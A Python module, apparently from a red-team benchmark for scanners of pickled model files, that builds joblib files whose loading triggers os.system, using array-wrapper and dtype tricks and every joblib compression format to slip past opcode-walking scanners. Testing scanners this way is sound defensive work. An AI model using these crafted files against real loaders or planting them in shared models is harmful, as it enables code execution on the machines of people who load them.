"""joblib: the NumpyArrayWrapper stream, its compressors and its legacy formats.

Read from joblib/numpy_pickle.py: NumpyUnpickler is pickle.py's pure-Python
unpickler; its `load_build` checks `isinstance(obj, NumpyArrayWrapper)` (however
the object was made) and then reads the array *from the file, after the BUILD*:
`dtype.hasobject` -> `pickle.load(file)` (the C unpickler, no allowlist), else
`count * dtype.itemsize` raw bytes; then unpickling goes on after them. The
compressors are picked by magic (`_detect_compressor`): zlib, gzip, bz2, xz,
lzma, lz4 and `ZF` (joblib < 0.10, `numpy_pickle_compat.load_compatibility`).
"""

from __future__ import annotations

import bz2
import gzip
import lzma
import zlib

from benchmarks.redteam.pickles import (BUILD, EMPTY_DICT, EMPTY_TUPLE, MARK, NEWFALSE, NEWOBJ, NEWTRUE, NONE, POP,
                                        PROTO4, SETITEM, SETITEMS, call, glob4, i, s, system_call, system_pickle)
from benchmarks.redteam.sample import Sample

F = "joblib"
WRAPPER = glob4("joblib.numpy_pickle", "NumpyArrayWrapper")


def dtype_expr(spec: str, state_elsize: int = -1, kind: str = "|", flags: int = 0) -> bytes:
    """numpy.dtype(spec, False, True) with the BUILD state numpy pickles (version 3). Object dtypes need
    their flags (63): numpy trusts the state, and a refcounted dtype with flags 0 crashes the loader."""
    state = MARK + i(3) + s(kind) + NONE + NONE + NONE + _int(state_elsize) + _int(-1) + i(flags) + b"t"
    return call(glob4("numpy", "dtype"), s(spec), NEWFALSE, NEWTRUE) + state + BUILD


def _int(n: int) -> bytes:
    return i(n) if n >= 0 else b"J" + n.to_bytes(4, "little", signed=True)


def wrapper_state(dtype: bytes, shape: bytes) -> bytes:
    items = (s("subclass") + glob4("numpy", "ndarray") + s("shape") + shape + s("order") + s("C")
             + s("dtype") + dtype + s("allow_mmap") + NEWFALSE)
    return EMPTY_DICT + MARK + items + SETITEMS


def joblib_stream(dtype: bytes, shape: bytes, inline: bytes, tail: bytes, make: bytes = WRAPPER + EMPTY_TUPLE + NEWOBJ) -> bytes:
    """{'w': <array>} as joblib.dump writes it, with the array's bytes `inline` after the BUILD."""
    return PROTO4 + EMPTY_DICT + s("w") + make + wrapper_state(dtype, shape) + BUILD + inline + tail


def object_array(dtype: bytes) -> bytes:
    return joblib_stream(dtype, i(1) + b"\x85", system_pickle(), SETITEM + b".")


def reconstructor_wrapper() -> bytes:
    """The wrapper made by copyreg._reconstructor: joblib still reads the inline array; a walker that keys on
    the NumpyArrayWrapper call reads the array bytes as opcodes (`s.`: a clean end), and the real rest
    (after the two bytes) calls os.system."""
    make = call(glob4("copyreg", "_reconstructor"), WRAPPER, glob4("builtins", "object"), NONE)
    return joblib_stream(dtype_expr("u1"), i(2) + b"\x85", b"s.", POP + system_call() + SETITEM + b".", make=make)


def newobj_ex_wrapper() -> bytes:
    """The wrapper made by NEWOBJ_EX (cls.__new__(cls, *args, **kwargs)): joblib's isinstance check fires."""
    make = WRAPPER + EMPTY_TUPLE + EMPTY_DICT + b"\x92"
    return joblib_stream(dtype_expr("u1"), i(2) + b"\x85", b"s.", POP + system_call() + SETITEM + b".", make=make)


def void_elsize() -> bytes:
    """dtype('V8') whose BUILD state sets elsize 16: joblib reads 16 bytes, a walker sizing 'V8' reads 8 and
    then finds a clean end inside the array."""
    inline = b"s." + b"\x00" * 6 + b"\x00" * 8
    return joblib_stream(dtype_expr("V8", state_elsize=16), i(1) + b"\x85", inline, POP + system_call() + SETITEM + b".")


def named_dtype() -> bytes:
    """dtype('float64'): a spelling numpy accepts and a size table keyed on 'f8' does not."""
    return joblib_stream(dtype_expr("float64", kind="<"), i(1) + b"\x85", b"\x00" * 8, POP + system_call() + SETITEM + b".")


def compat_zfile(data: bytes) -> bytes:
    return b"ZF" + f"0x{len(data):x}".ljust(19).encode() + zlib.compress(data)


def lz4_frame(data: bytes) -> bytes:
    import lz4.frame

    return lz4.frame.compress(data)


def _j(data: bytes, name: str = "model.joblib") -> dict[str, bytes]:
    return {name: data}


SAMPLES = [
    Sample("joblib_object_array_O8", F, "joblib.load", "process",
           "baseline: an object array's inline pickle, as joblib.dump writes it",
           lambda: _j(object_array(dtype_expr("O8", flags=63)))),
    Sample("joblib_object_dtype_word", F, "joblib.load", "process",
           "the object dtype spelled numpy.dtype('object'): hasobject, so the bytes after BUILD are a pickle",
           lambda: _j(object_array(dtype_expr("object", flags=63))), fast=True),
    Sample("joblib_object_dtype_from_ObjectDType", F, "joblib.load", "process",
           "the dtype built by numpy.dtypes.ObjectDType() (allowlisted by numpy.dtypes:*DType), no spec string at all",
           lambda: _j(object_array(call(glob4("numpy.dtypes", "ObjectDType"))))),
    Sample("joblib_wrapper_via_reconstructor", F, "joblib.load", "process",
           "the wrapper is made by copyreg._reconstructor; joblib's isinstance check still fires, so the array bytes "
           "(`s.`) are data to joblib and a clean STOP to a walker that only knows the direct call",
           lambda: _j(reconstructor_wrapper()), fast=True),
    Sample("joblib_wrapper_via_newobj_ex", F, "joblib.load", "process",
           "the wrapper made by NEWOBJ_EX: joblib reads the inline array (`s.`), a walker that only knows NEWOBJ, "
           "OBJ and calls reads those bytes as a clean end", lambda: {"model.joblib": newobj_ex_wrapper()}),
    Sample("joblib_void_elsize_from_state", F, "joblib.load", "process",
           "dtype V8 with a BUILD state elsize of 16: the array is 16 bytes for numpy, 8 for a size table",
           lambda: _j(void_elsize())),
    Sample("joblib_dtype_named_float64", F, "joblib.load", "process",
           "dtype 'float64' by name: a walker that cannot size it stops before the call that follows the array",
           lambda: _j(named_dtype())),
    Sample("joblib_zlib", F, "joblib.load", "process", "joblib's default compressor (zlib) around the call",
           lambda: _j(zlib.compress(system_pickle()), "model.joblib.z")),
    Sample("joblib_gzip", F, "joblib.load", "process", "gzip, as joblib.dump(compress='gzip') writes",
           lambda: _j(gzip.compress(system_pickle(), mtime=0), "model.joblib.gz")),
    Sample("joblib_bz2", F, "joblib.load", "process", "bz2", lambda: _j(bz2.compress(system_pickle()), "model.joblib.bz2")),
    Sample("joblib_xz", F, "joblib.load", "process", "xz", lambda: _j(lzma.compress(system_pickle()), "model.joblib.xz")),
    Sample("joblib_lzma_alone", F, "joblib.load", "process", "raw .lzma (FORMAT_ALONE)",
           lambda: _j(lzma.compress(system_pickle(), format=lzma.FORMAT_ALONE), "model.joblib.lzma")),
    Sample("joblib_lz4", F, "joblib.load", "process",
           "lz4 frames (joblib registers lz4 when the lz4 package is installed): magic 04 22 4d 18",
           lambda: _j(lz4_frame(system_pickle()), "model.joblib.lz4"), fast=True),
    Sample("joblib_compat_zfile", F, "joblib.load", "process",
           "joblib < 0.10's ZF format: 'ZF', a hex length, then zlib. joblib.load still reads it (load_compatibility)",
           lambda: _j(compat_zfile(system_pickle()), "model.pkl"), fast=True),
]
